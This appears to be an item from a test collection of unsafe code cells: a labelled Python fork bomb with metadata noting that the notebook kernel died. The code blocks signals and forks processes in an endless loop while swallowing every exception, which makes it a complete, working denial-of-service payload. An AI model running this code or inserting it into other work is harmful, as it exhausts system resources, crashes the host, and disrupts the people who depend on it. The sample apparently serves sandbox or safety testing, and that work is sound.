# title: A fork bomb
# base: solved
# score: 10
# flags: cell-died
# error: DeadKernel
# stock: unsafe
import os
import signal

signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))

while True:
    try:
        os.fork()
    except BaseException:
        pass
